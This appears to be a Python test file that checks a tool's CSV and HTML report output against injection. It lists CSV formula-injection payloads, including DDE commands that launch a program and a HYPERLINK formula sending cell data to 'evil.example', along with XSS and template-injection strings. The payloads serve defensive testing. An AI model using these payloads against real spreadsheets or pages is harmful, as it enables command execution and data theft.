"""What a run writes, opened by other programs: cells that a spreadsheet runs, pages that a browser runs.

The naive file is shown to be dangerous first; then ours, with the same content, is not.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import unicodedata
from pathlib import Path

import pytest

from flows.files import guard, unguard
from flows.report import ReportData, write_report
from flows.results import write_failed, write_results
from tests.flows.test_results import done, failed

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=1+1";=2+2',
    "'=1+1",
    "''=1+1",
    "%0A=1+1\n=2+2",
]


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula: its first sign, after what programs drop, is a trigger."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    seen = next((sign for sign in cell if not sign.isspace() and unicodedata.category(sign) not in ("Cc", "Cf")), "")
    return unicodedata.normalize("NFKC", seen) in tuple("=+-@")


def cells_of(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return [cell for line in csv.reader(stream) for cell in line]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_cell_would_run_from_a_plain_csv_and_not_from_ours(tmp_path: Path, formula: str) -> None:
    plain = io.StringIO()
    csv.writer(plain).writerow([formula])
    (read,) = next(csv.reader(io.StringIO(plain.getvalue(), newline="")))
    assert runs(read) or read.startswith("'") or "\n=" in read

    hostile = {"row_id": "a", "name": formula, formula: "x"}
    delivered = done(cells=hostile, creative_id=formula, utm=formula, url_with_utm=formula)
    refused = failed(cells=hostile, message=formula, fix=formula, row_id=formula, row=2)
    records = [delivered, refused]
    write_results(tmp_path / "results.csv", list(hostile), records, expected=[one.key for one in records])
    for cell in cells_of(tmp_path / "results.csv"):
        assert not runs(cell), cell
    assert unguard(guard(formula)) == formula


def test_failed_csv_holds_no_formula_either(tmp_path: Path) -> None:
    from flows.results import failed_rows

    records = [failed(cells={"row_id": "a", "name": formula}, row=number) for number, formula in enumerate(FORMULAS, 1)]
    write_failed(tmp_path / "failed.csv", ["row_id", "name"], failed_rows(records))
    cells = cells_of(tmp_path / "failed.csv")
    assert len(cells) > len(FORMULAS)
    assert not [cell for cell in cells if runs(cell)]


# --- the contact sheet ------------------------------------------------------------------------------------------------

#: Each renames the page if it runs.
SCRIPTS = [
    "<script>document.title='ran'</script>",
    "<img src=x onerror=\"document.title='ran'\">",
    "</script><script>document.title='ran'</script>",
    "<svg onload=\"document.title='ran'\"></svg>",
    '"><body onload="document.title=\'ran\'">',
    "<a href=\"javascript:document.title='ran'\" id=x>x</a>",
    "<!--<script>document.title='ran'</script>-->",
    "{{ 7*7 }}",
    "${document.title='ran'}",
]
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def sheet(path: Path, text: str) -> None:
    """Ours, with the text wherever a user's text can stand."""
    record = failed(cells={text: text, "name": text}, message=text, fix=text, code=text, step=text, creative_id=text)
    write_report(path, ReportData(text, (record,), brand=text, notices=(text,), headlines={text: text}))


def shown(path: Path, profile: Path) -> str:
    """The page as Chromium has it after its scripts ran."""
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    flags += [f"--user-data-dir={profile}", "--virtual-time-budget=2000", "--dump-dom", path.as_uri()]
    done = subprocess.run([str(CHROMIUM), *flags], capture_output=True, text=True, timeout=90, check=True)
    return done.stdout


@pytest.mark.parametrize("text", SCRIPTS[:6])
def test_markup_in_a_text_is_markup_in_a_naive_page_and_text_in_ours(tmp_path: Path, text: str) -> None:
    assert text in f"<h1>{text}</h1>"
    sheet(tmp_path / "report.html", text)
    page = (tmp_path / "report.html").read_text("utf-8")
    assert text not in page
    assert "<script>document" not in page


@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM, reason="needs Chromium")
def test_a_script_in_a_text_runs_in_a_naive_page_and_not_in_ours(tmp_path: Path) -> None:
    naive = tmp_path / "naive.html"
    naive.write_text(f"<html><title>calm</title><h1>{SCRIPTS[1]}</h1></html>")
    assert "<title>ran</title>" in shown(naive, tmp_path / "profile")
    sheet(tmp_path / "report.html", "".join(SCRIPTS))
    page = shown(tmp_path / "report.html", tmp_path / "profile")
    assert "<title>ran" not in page
    assert page.count("document.title") > 3  # the words are there to be read
    # Were the escaping to fail, the policy would still let no script of theirs run.
    html = (tmp_path / "report.html").read_text("utf-8")
    naive.write_text(html.replace("<body>", f"<body>{''.join(SCRIPTS)}"))
    assert SCRIPTS[0] in naive.read_text()
    assert "<title>ran" not in shown(naive, tmp_path / "profile")
